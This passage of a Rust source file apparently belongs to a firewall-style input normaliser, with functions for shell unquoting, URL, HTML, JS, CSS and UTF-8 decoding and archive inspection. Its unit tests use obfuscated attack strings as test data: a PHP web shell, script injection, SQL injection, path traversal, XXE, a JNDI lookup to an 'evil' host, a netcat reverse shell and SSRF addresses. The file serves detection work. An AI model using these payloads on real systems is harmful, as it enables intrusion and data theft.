                .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_')
        {
            4
        } else {
            0
        };
        if n == 0 {
            out.push(b);
            i += 1;
            continue;
        }
        changed = true;
        out.push(b' ');
        i += n;
        // `$IFS$9`: the positional parameter is empty.
        if input.get(i) == Some(&b'$') && input.get(i + 1).is_some_and(u8::is_ascii_digit) {
            i += 2;
        }
    }
    changed.then_some(out)
}

/// See [`Transform::ShellUnquote`].
pub fn shell_unquote(input: &[u8]) -> Cow<'_, [u8]> {
    // A word ends at whitespace or a shell operator; quotes pair only inside one.
    let ends_word = |b: u8| b.is_ascii_whitespace() || b";|&()<>`".contains(&b);
    // One pass to see whether anything would change: most values with a quote hold only
    // apostrophes of prose (`O'Reilly`), which stay.
    let mut changes = false;
    let (mut single, mut double) = (0u8, 0u8);
    let mut prev = 0u8;
    for &b in input {
        match b {
            b'\\' | b'^' => changes = true,
            b'@' | b'*' if prev == b'$' => changes = true,
            b'\'' => single = single.saturating_add(1),
            b'"' => double = double.saturating_add(1),
            b if ends_word(b) => {
                changes |= single >= 2 || double >= 2;
                (single, double) = (0, 0);
            }
            _ => {}
        }
        if changes {
            break;
        }
        prev = b;
    }
    if !(changes || single >= 2 || double >= 2) {
        return Cow::Borrowed(input);
    }
    let mut out = Vec::with_capacity(input.len());
    let mut rest = input;
    while !rest.is_empty() {
        let len = rest
            .iter()
            .position(|&b| ends_word(b))
            .unwrap_or(rest.len());
        let (word, tail) = rest.split_at(len);
        unquote_word(word, &mut out);
        // The separator itself (one byte), kept.
        if let Some((&sep, tail)) = tail.split_first() {
            out.push(sep);
            rest = tail;
        } else {
            rest = tail;
        }
    }
    Cow::Owned(out)
}

/// One word of [`shell_unquote`]: a quote is removed with its partner (the next quote of the
/// same kind in the word); a quote without one (`I'd`, `5'11`) stays, as prose wrote it.
fn unquote_word(word: &[u8], out: &mut Vec<u8>) {
    let mut i = 0;
    while let Some(&b) = word.get(i) {
        match b {
            b'\\' | b'^' => {}
            b'$' if matches!(word.get(i + 1), Some(b'@' | b'*')) => i += 1,
            b'\'' | b'"' => {
                let partner = word
                    .get(i + 1..)
                    .and_then(|w| w.iter().position(|&c| c == b))
                    .map(|p| i + 1 + p);
                match partner {
                    Some(close) => {
                        // The quoted bytes, without their quotes.
                        out.extend_from_slice(word.get(i + 1..close).unwrap_or_default());
                        i = close;
                    }
                    None => out.push(b),
                }
            }
            _ => out.push(b),
        }
        i += 1;
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn printable_text_keeps_text_runs_of_binary_content() {
        // Text is its own text, borrowed.
        for t in [&b"plain text\r\n\ttabbed"[..], "café <?php".as_bytes(), b""] {
            assert!(
                matches!(super::printable_text(t), Cow::Borrowed(_)),
                "{t:?}"
            );
        }
        // Short chance runs between binary bytes go; long runs stay, one per line; NUL does
        // not end a run (UTF-16); invalid UTF-8 and control bytes do.
        let bin = b"\x89PNG\r\n\x1a\n\x00\x00$x(\x01\xff<?php system($_GET[0]); ?>\xc3\x07\
            <\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00a\x00l\x00e\x00r\x00t\x00\x02abcdefghijk\x03caf\xc3\xa9 au lait";
        assert_eq!(
            super::printable_text(bin).as_ref(),
            b"<?php system($_GET[0]); ?>\x1e<script>alert\x1ecaf\xc3\xa9 au lait"
        );
        // Random bytes keep little.
        let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
        let random: Vec<u8> = (0..65536)
            .map(|_| {
                x ^= x << 13;
                x ^= x >> 7;
                x ^= x << 17;
                x as u8
            })
            .collect();
        assert!(super::printable_text(&random).len() < 1024);
    }

    use super::*;

    fn t(tr: Transform, input: &str) -> String {
        String::from_utf8_lossy(&tr.apply(input.as_bytes())).into_owned()
    }

    #[test]
    fn url_decoding() {
        // Where an escape decodes, a `+` written as such is a space; one decoded stays.
        assert_eq!(t(Transform::UrlDecode, "a%20b+c"), "a b c");
        assert_eq!(t(Transform::UrlDecode, "+x%2B+y%21+"), " x+ y! ");
        assert_eq!(t(Transform::UrlDecode, "C++ 100%"), "C++ 100%");
        assert_eq!(
            t(Transform::UrlDecodeMulti, "%253Bwget+http%253A"),
            ";wget http:"
        );
        // Base64 whose padding or slashes were escaped keeps its pluses.
        assert_eq!(t(Transform::UrlDecode, "ab+c/d+e%3D%3D"), "ab+c/d+e==");
        assert_eq!(t(Transform::UrlDecode, "ab+c%2Fd"), "ab+c/d");
        assert_eq!(t(Transform::UrlDecode, "%27%3cscript%3E"), "'<script>");
        assert_eq!(t(Transform::UrlDecode, "%u003cx%u0027"), "<x'");
        assert_eq!(t(Transform::UrlDecode, "100%"), "100%");
        assert_eq!(t(Transform::UrlDecode, "%zz%4"), "%zz%4");
        assert_eq!(t(Transform::UrlDecode, "%252e%252e"), "%2e%2e");
        assert_eq!(t(Transform::UrlDecodeMulti, "%252e%252e%252f"), "../");
        assert_eq!(t(Transform::UrlDecodeMulti, "%25252527"), "'");
        assert!(matches!(url_decode(b"plain"), Cow::Borrowed(_)));
    }

    #[test]
    fn url_decode_multi_is_bounded() {
        // Five levels of encoding: only MAX_DECODE_PASSES are undone.
        let s = "%2525252527";
        assert_eq!(t(Transform::UrlDecodeMulti, s), "%27");
    }

    #[test]
    fn html_decoding() {
        assert_eq!(t(Transform::HtmlDecode, "&lt;script&gt;"), "<script>");
        assert_eq!(
            t(Transform::HtmlDecode, "&#60;&#x3C;&#X3c&#0000060"),
            "<<<<"
        );
        assert_eq!(
            t(Transform::HtmlDecode, "java&Tab;script&colon;"),
            "java\tscript:"
        );
        assert_eq!(t(Transform::HtmlDecode, "&ltimg"), "<img");
        assert_eq!(t(Transform::HtmlDecode, "AT&T &x"), "AT&T &x");
        assert_eq!(t(Transform::HtmlDecode, "&#99999999999;"), "\u{fffd}");
    }

    #[test]
    fn js_and_css_decoding() {
        assert_eq!(t(Transform::JsDecode, r"\x3cscript\u003e"), "<script>");
        assert_eq!(t(Transform::JsDecode, r"\u{61}\141\n\q"), "aa\nq");
        assert_eq!(t(Transform::JsDecode, r"\u{0000000061}lert"), "alert");
        assert_eq!(t(Transform::JsDecode, "end\\"), "end\\");
        assert_eq!(t(Transform::CssDecode, r"\6a avascript\3a"), "javascript:");
        assert_eq!(t(Transform::CssDecode, r"ex\pression"), "expression");
    }

    #[test]
    fn utf8_normalisation() {
        // Overlong '.' '/' and full-width '<'.
        assert_eq!(utf8_normalize(b"\xc0\xae\xc0\xaf").as_ref(), b"./");
        assert_eq!(utf8_normalize(b"\xe0\x80\xae").as_ref(), b".");
        assert_eq!(
            utf8_normalize("\u{ff1c}script\u{ff1e}".as_bytes()).as_ref(),
            b"<script>"
        );
        assert_eq!(
            utf8_normalize("caf\u{e9}".as_bytes()).as_ref(),
            "caf\u{e9}".as_bytes()
        );
        assert_eq!(utf8_normalize(b"\xff\xfe").as_ref(), b"\xff\xfe");
        // Latin-1's no-break space where no UTF-8 character holds the byte; `à` (C3 A0), `Р`
        // (D0 A0) and `頀` (E9 A0 80) keep theirs.
        assert_eq!(
            utf8_normalize(b"1\xa0UNION\xa0SELECT").as_ref(),
            b"1 UNION SELECT"
        );
        assert_eq!(utf8_normalize(b"caf\xe9\xa0x").as_ref(), b"caf\xe9 x");
        assert_eq!(utf8_normalize(b"\xc3\xa9\xa0").as_ref(), b"\xc3\xa9 ");
        for kept in ["voil\u{e0}", "\u{420}\u{430}", "\u{9800}"] {
            assert!(matches!(utf8_normalize(kept.as_bytes()), Cow::Borrowed(_)));
            assert!(!Transform::Utf8Normalize.may_change(Features::of(kept.as_bytes())));
        }
        assert!(Transform::Utf8Normalize.may_change(Features::of(b"1\xa0OR")));
        assert!(Transform::Utf8Normalize.may_change(Features::of("1′ OR".as_bytes())));
        assert!(Transform::Utf8Normalize.may_change(Features::of("1ʼ OR".as_bytes())));
        assert!(!Transform::Utf8Normalize.may_change(Features::of("it’s – “x”".as_bytes())));
        // Compatibility forms of letters, digits and full stops.
        for (input, want) in [
            ("http://①②⑦.⓪.⓪.①/", "http://127.0.0.1/"),
            (
                "ⓛⓞⓒⓐⓛⓗⓞⓢⓣ ⓁⓄⒸⒶⓁⒽⓄⓈⓉ ⓩⓐ ⓏⒶ ⓵⓽⓿",
                "localhost LOCALHOST za ZA 190",
            ),
            ("169。254｡169．254", "169.254.169.254"),
            ("H₂O x⁴ ₀₉ ⁰", "H2O x4 09 0"),
            (
                "．．∕．．⁄etc⧸passwd ..∖win ..⧵x ﹒﹒﹨y",
                "../../etc/passwd ..\\win ..\\x ..\\y",
            ),
            ("𝐬𝐞𝐥𝐞𝐜𝐭 𝑨𝒁 𝟏𝟐𝟕 𝟎𝟗 𝟶𝟿", "select AZ 127 09 09"),
            // Quotes to a back end's best-fit conversion.
            ("xʼ OR ʹ1ʹ=ˈ1 ʺaʺ", "x' OR '1'='1 \"a\""),
            ("x′ or ‵1′=′1 ″b‶", "x' or '1'='1 \"b\""),
        ] {
            assert_eq!(
                utf8_normalize(input.as_bytes()).as_ref(),
                want.as_bytes(),
                "{input}"
            );
        }
        // Curly quotes, dashes, the euro sign and other symbols are left as they are.
        for kept in ["“quoted” – it’s €5 … ok", "⑩ ⑳ ⒜ 𝄞 Ω"] {
            assert_eq!(
                utf8_normalize(kept.as_bytes()).as_ref(),
                kept.as_bytes(),
                "{kept}"
            );
        }
    }

    #[test]
    fn whitespace_and_case() {
        assert_eq!(t(Transform::CompressWhitespace, "a \t\n b"), "a b");
        assert_eq!(t(Transform::RemoveWhitespace, "a \t\n b"), "ab");
        assert_eq!(t(Transform::Lowercase, "SeLeCt"), "select");
        assert_eq!(t(Transform::Trim, "  x y \n"), "x y");
        assert_eq!(t(Transform::Trim, "   "), "");
        assert_eq!(t(Transform::RemoveNulls, "a\0b"), "ab");
    }

    #[test]
    fn comments() {
        assert_eq!(
            t(Transform::ReplaceComments, "UNION/**/SELECT"),
            "UNION SELECT"
        );
        assert_eq!(
            t(Transform::ReplaceComments, "1/*!50000UNION*/SELECT"),
            "1 UNION SELECT"
        );
        assert_eq!(t(Transform::ReplaceComments, "a-- x\nb"), "a \nb");
        assert_eq!(t(Transform::ReplaceComments, "a /* open"), "a  ");
        assert_eq!(t(Transform::RemoveCommentChars, "SEL/**/ECT"), "SELECT");
    }

    #[test]
    fn paths() {
        assert_eq!(
            t(Transform::NormalizePath, "/a/b/../../../etc/passwd"),
            "/etc/passwd"
        );
        assert_eq!(
            t(Transform::NormalizePath, "..\\..\\win.ini"),
            "../../win.ini"
        );
        assert_eq!(t(Transform::NormalizePath, "/a//./b/"), "/a/b/");
        assert_eq!(t(Transform::NormalizePath, "/plain/path"), "/plain/path");
    }

    #[test]
    fn base64_runs() {
        assert_eq!(
            t(Transform::Base64Decode, "x=JHtqbmRpOmxkYXA6Ly9ldmlsfQ=="),
            "${jndi:ldap://evil}"
        );
        assert_eq!(t(Transform::Base64Decode, "short"), "short");
    }

    /// A zip archive of `(name, content, deflate)` members, local headers only (as a
    /// streaming writer leaves them when sizes follow the data: `sized` false).
    fn zip(members: &[(&str, &[u8], bool)], sized: bool) -> Vec<u8> {
        use std::io::Write;
        let mut out = Vec::new();
        for (name, content, deflate) in members {
            let data = if *deflate {
                let mut e =
                    flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
                e.write_all(content).unwrap();
                e.finish().unwrap()
            } else {
                content.to_vec()
            };
            let size = if sized { data.len() as u32 } else { 0 };
            out.extend_from_slice(b"PK\x03\x04\x14\x00");
            out.extend_from_slice(&(if sized { 0u16 } else { 8u16 }).to_le_bytes());
            out.extend_from_slice(&(if *deflate { 8u16 } else { 0u16 }).to_le_bytes());
            out.extend_from_slice(&[0; 8]);
            out.extend_from_slice(&size.to_le_bytes());
            out.extend_from_slice(&(if sized { content.len() as u32 } else { 0 }).to_le_bytes());
            out.extend_from_slice(&(name.len() as u16).to_le_bytes());
            out.extend_from_slice(&0u16.to_le_bytes());
            out.extend_from_slice(name.as_bytes());
            out.extend_from_slice(&data);
        }
        // The central directory is not read.
        out.extend_from_slice(b"PK\x01\x02");
        out
    }

    #[test]
    fn zip_archives_give_their_xml_documents() {
        let xxe: &[u8] = b"<?xml version=\"1.0\"?><!DOCTYPE w [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><w:document>&x;</w:document>";
        let png: &[u8] = b"\x89PNG\r\n\x1a\n<!DOCTYPE not-a-document>";
        for sized in [true, false] {
            let docx = zip(
                &[
                    ("[Content_Types].xml", b"<Types/>", false),
                    ("word/media/image1.png", png, true),
                    ("word/document.xml", xxe, true),
                ],
                sized,
            );
            let docs = zip_documents(&docx).unwrap();
            let text = String::from_utf8_lossy(&docs);
            assert!(text.contains("<Types/>"), "{text:?}");
            assert!(text.contains("<!ENTITY x SYSTEM"), "{text:?}");
            assert!(!text.contains("not-a-document"), "{text:?}");
            // Through `with_zip_documents`, after the archive's own text runs.
            let all = with_zip_documents(printable_text(&docx), &docx);
            assert!(memchr::memmem::find(&all, b"file:///etc/passwd").is_some());
        }
        // Not an archive, or one without XML members.
        assert!(zip_documents(b"<?xml version=\"1.0\"?><a/>").is_none());
        assert!(zip_documents(&zip(&[("a.png", png, true)], true)).is_none());
        // A bomb stops at the member bound; a truncated archive gives what came before.
        let zeros = vec![b'a'; 4 << 20];
        let bomb = zip(&[("x.xml", &zeros, true), ("y.xml", &zeros, true)], true);
        let docs = zip_documents(&bomb).unwrap();
        assert!(docs.len() <= 2 * (ZIP_MEMBER_MAX + 1), "{}", docs.len());
        let cut = zip(
            &[("a.xml", b"<a>first</a>", false), ("b.xml", xxe, true)],
            true,
        );
        let docs = zip_documents(cut.get(..cut.len() - 40).unwrap()).unwrap();
        assert!(memchr::memmem::find(&docs, b"<a>first</a>").is_some());
        // Garbage after the signature never panics.
        for n in 0..64 {
            let mut junk = b"PK\x03\x04".to_vec();
            junk.extend((0..n).map(|i| (i * 37 % 251) as u8));
            let _ = zip_documents(&junk);
        }
    }

    #[test]
    fn base64_gzip_streams_are_inflated_within_bounds() {
        use base64::Engine as _;
        use std::io::Write as _;
        let gz = |data: &[u8]| {
            let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
            e.write_all(data).unwrap();
            e.finish().unwrap()
        };
        let b64 = |data: &[u8]| base64::engine::general_purpose::STANDARD.encode(data);
        let object =
            b"\xac\xed\x00\x05sr\x00:org.apache.commons.collections.functors.InvokerTransformer";
        let sent = b64(&gz(object));
        assert!(sent.starts_with("H4sI"), "{sent}");
        let decoded = super::base64_decode(format!("state={sent}&x=1").as_bytes()).into_owned();
        assert_eq!(decoded, object.to_vec());
        // A bomb stops at the bounds: a few times its own size, and 64 KiB.
        let small = gz(&vec![b'a'; 1 << 20]);
        assert!(
            small.len() * super::GUNZIP_RATIO < super::GUNZIP_MAX,
            "{}",
            small.len()
        );
        let out = super::base64_decode(b64(&small).as_bytes()).into_owned();
        assert_eq!(out.len(), small.len() * super::GUNZIP_RATIO);
        let mut big_text: Vec<u8> = Vec::new();
        let mut x: u64 = 0x2545_f491_4f6c_dd1d;
        while big_text.len() < (1 << 20) {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            big_text.extend_from_slice(format!("{x:x} ").as_bytes());
        }
        let out = super::base64_decode(b64(&gz(&big_text)).as_bytes()).into_owned();
        assert_eq!(out.len(), super::GUNZIP_MAX);
        // A truncated stream gives what inflated before the cut; a corrupt one its bytes.
        let long: Vec<u8> = (0..50_000u32)
            .flat_map(|i| i.to_string().into_bytes())
            .collect();
        let z = gz(&long);
        let cut = super::base64_decode(b64(z.get(..z.len() / 2).unwrap()).as_bytes()).into_owned();
        assert!(!cut.is_empty() && long.starts_with(&cut), "{}", cut.len());
        let corrupt = [
            0x1f, 0x8b, 0x08, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff,
        ];
        assert_eq!(
            super::base64_decode(b64(&corrupt).as_bytes()).as_ref(),
            &corrupt[..]
        );
    }

    #[test]
    fn shell_command_lines() {
        assert_eq!(
            t(Transform::CmdLine, r#"c\a"t" /etc/pa's'swd"#),
            "cat/etc/passwd"
        );
        assert_eq!(t(Transform::CmdLine, "W^HOAMI;  ID"), "WHOAMI ID");
        assert_eq!(t(Transform::ShellUnquote, "a;w\\ho'am'i"), "a;whoami");
        assert_eq!(
            t(Transform::ShellUnquote, r#"x\n|w$@h^o"am"i;  ID"#),
            "xn|whoami;  ID"
        );
        assert_eq!(t(Transform::ShellUnquote, "$5 off; a, b"), "$5 off; a, b");
        assert_eq!(
            t(Transform::ShellUnquote, "small; I'd order"),
            "small; I'd order"
        );
        assert_eq!(t(Transform::ShellUnquote, ";'ls' -l|c\"a\"t"), ";ls -l|cat");
        assert_eq!(t(Transform::ShellUnquote, "'a b'"), "'a b'");
        // Commas split words only in a brace expansion.
        assert_eq!(
            t(Transform::CmdLine, "{cat,/etc/passwd}"),
            "{cat/etc/passwd}"
        );
        assert_eq!(t(Transform::CmdLine, "{ls,-la}"), "{ls -la}");
        assert_eq!(t(Transform::CmdLine, "id,name,email"), "id,name,email");
        assert_eq!(t(Transform::CmdLine, "who$@ami;c$*at"), "whoami cat");
        assert_eq!(t(Transform::CmdLine, "costs $5"), "costs $5");
        assert_eq!(t(Transform::CmdLine, "a}b,c"), "a}b,c");
        // Line continuations: sh's backslash, cmd.exe's caret.
        assert_eq!(
            t(Transform::CmdLine, ";ca\\\nt /etc/pa\\\nsswd"),
            " cat/etc/passwd"
        );
        assert_eq!(t(Transform::CmdLine, "who^\r\nami"), "whoami");
        assert_eq!(t(Transform::CmdLine, "a\\ b"), "a b");
        // The field separator is a space.
        assert_eq!(
            t(Transform::CmdLine, "nc${IFS}-e${IFS}/bin/sh${IFS}h 4444"),
            "nc -e/bin/sh h 4444"
        );
        assert_eq!(
            t(Transform::CmdLine, "cat$IFS$9/etc/passwd"),
            "cat/etc/passwd"
        );
        assert_eq!(t(Transform::CmdLine, "$IFSX IFS"), "$IFSX IFS");
        assert!(matches!(cmdline(b"id,name,email"), Cow::Borrowed(_)));
        assert!(matches!(cmdline(b"plain words here"), Cow::Borrowed(_)));
    }

    #[test]
    fn may_change_is_sound() {
        // Whenever a transformation changes a value, `may_change` must have said so.
        let samples = [
            "plain words",
            "a%20b",
            "&lt;x",
            "\\x41",
            "caf\u{e9}",
            "\u{2460}\u{24ea}",
            "\u{24d0}\u{24b6}",
            "x\u{2074} H\u{2082}O",
            "169\u{3002}254\u{ff61}1",
            "\u{1d7cf}\u{1d41a}",
            "\u{201c}q\u{201d} \u{2013} \u{20ac}5",
            "a\0b",
            "a\tb",
            "a  b",
            "/*x*/",
            "a--b",
            "#x",
            "/a/../b",
            "aGVsbG8gd29ybGQgaGVsbG8=",
            "c\"at",
            " x ",
            "x,y;z",
            "..\\a",
            "\u{ff1c}",
            "a (b)",
            "a /b",
            "x*/y",
            "a//b",
            "./x",
            ".hidden",
            "cat${IFS}x",
            "\u{a0}x",
            "\u{3000}",
            "caf\u{e9}",
            "a -- b",
            "/a/./b",
            "a/../b",
            "\u{ab}quote\u{bb} 20\u{b0}C \u{a3}5",
            "x\u{a0}\u{a0}",
            "short b64 aGVsbG8=",
            "exactly16chars__",
            "fifteen_chars__ x",
            "w'ho'ami",
            "a\"b\"c",
            "w$@ho",
            "who^ami",
        ];
        let overlong: &[&[u8]] = &[
            b"\xc0\xae",
            b"a\xc1\xbf",
            b"\xe0\x80\xae",
            b"\xf0\x80\x80\xae",
            // Found by the `normalize` fuzz target: a capital letter and no other feature.
            b"\xffV\xf8",
            b"1\xa0UNION",
            b"\xe9\xa0x",
            b"\xc3\xa9\xa0",
            b"\xc3\xa0 la \xe9\xa0\x80",
        ];
        let all = samples
            .iter()
            .map(|s| s.as_bytes())
            .chain(overlong.iter().copied());
        for s in all {
            let f = Features::of(s);
            for t in Transform::ALL {
                let changed = !matches!(t.apply(s), Cow::Borrowed(_));
                assert!(!changed || t.may_change(f), "{t} changed {s:?} unannounced");
            }
        }
    }

    /// The branch-free feature pass against the obvious one it replaced.
    #[test]
    fn features_match_the_branching_scan() {
        fn reference(v: &[u8]) -> u32 {
            let mut f = 0u32;
            let mut prev = 0u8;
            let mut run = 0u32;
            for &b in v {
                f |= BYTE_FEATURES[usize::from(b)] & !(Features::PAIR_CLASS | Features::B64_CHAR);
                if b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_') {
                    run += 1;
                    if run >= 16 {
                        f |= Features::B64_RUN;
                    }
                } else {
                    run = 0;
                }
                f |= match (prev, b) {
                    (b' ', b' ') => Features::DOUBLE_SPACE,
                    (b' ', b'/' | b'(') => Features::SPACE_SLASH_PAREN,
                    (b'/', b'*') | (b'*', b'/') => Features::SLASH_STAR,
                    (b'-', b'-') => Features::DASH_DASH,
                    (b'/', b'/') => Features::DOUBLE_SLASH,
                    (b'/', b'.') => Features::SLASH_DOT,
                    (0xc2, 0xa0) | (0xe2, 0x81 | 0x82 | 0x88 | 0x91..=0x93 | 0xa7) => {
                        Features::UTF8_SUSPECT
                    }
                    _ => 0,
                };
                prev = b;
            }
            if v.first() == Some(&b'.') {
                f |= Features::LEADING_DOT;
            }
            if v.first().is_some_and(|&b| is_space(b)) || v.last().is_some_and(|&b| is_space(b)) {
                f |= Features::EDGE_WS;
            }
            // A 0xA0 outside any UTF-8 character, or a prime, where nothing else made the
            // value suspect.
            f &= !Features::LOOK_CLOSER;
            let prime = ["\u{2032}", "\u{2033}", "\u{2035}", "\u{2036}"]
                .iter()
                .any(|p| v.windows(3).any(|w| w == p.as_bytes()));
            if f & Features::UTF8_SUSPECT == 0
                && (prime || v.utf8_chunks().any(|c| c.invalid().contains(&0xa0)))
            {
                f |= Features::UTF8_SUSPECT;
            }
            f
        }
        let alphabet = b" /(*-.\xc2\xa0\xc3\xe9\x80\xc0\xe3\xe2\xb2\xca\xbc%&\\#\"';\t\naZ09+_=";
        let mut rng = crate::testutil::XorShift(0x9e37_79b9_7f4a_7c15);
        for n in 0..20_000 {
            let v: Vec<u8> = (0..n % 40)
                .map(|_| {
                    let seed = rng.next();
                    if seed % 5 == 0 {
                        b'a'
                    } else {
                        alphabet[(seed >> 8) as usize % alphabet.len()]
                    }
                })
                .collect();
            assert_eq!(Features::of(&v).0, reference(&v), "{v:?}");
        }
    }

    /// The long values' passes against the per-byte one, on values of every length around
    /// the blocks' and the pairs' edges.
    #[test]
    fn long_features_match_the_short_scan() {
        let alphabet = b" /(*-.\xc2\xa0\xe2\x81\x93\x80\xb2\xca\xbc\xc0\xe3%&\\#\"';\t\naZ09+_=";
        let mut rng = crate::testutil::XorShift(0x2545_f491_4f6c_dd1d);
        for n in 0..20_000usize {
            let len = n % 300;
            // Mostly base64 characters in some values, so that runs of every length occur.
            let plain = (n % 3) as u64;
            let v: Vec<u8> = (0..len)
                .map(|_| {
                    let seed = rng.next();
                    if seed % 7 < plain * 3 {
                        b'a'
                    } else {
                        alphabet[(seed >> 8) as usize % alphabet.len()]
                    }
                })
                .collect();
            assert_eq!(Features::of_long(&v), Features::of_short(&v), "{v:?}");
        }
        for v in [
            &b"a"[..],
            b"0123456789abcde",
            b"0123456789abcdef",
            b"x 0123456789abcdef",
            b"xxxxxxx 0123456789abcdef",
            b"/*",
            b"*/",
            b"a\xe2\x80\x93b",
            b". a",
        ] {
            let long: Vec<u8> = v.iter().chain([b'!'; 100].iter()).copied().collect();
            assert_eq!(Features::of_long(v), Features::of_short(v), "{v:?}");
            assert_eq!(
                Features::of_long(&long),
                Features::of_short(&long),
                "{long:?}"
            );
        }
    }

    #[test]
    fn transforms_never_panic_on_truncated_escapes() {
        for tr in Transform::ALL {
            for s in [
                "%", "%u", "%u12", "&#", "&#x", "\\", "\\u{", "\\x4", "/*", "\u{ff01}",
            ] {
                let _ = tr.apply(s.as_bytes());
            }
            let _ = tr.apply(b"\xef\xbc");
            let _ = tr.apply(b"\xc0");
        }
    }
}
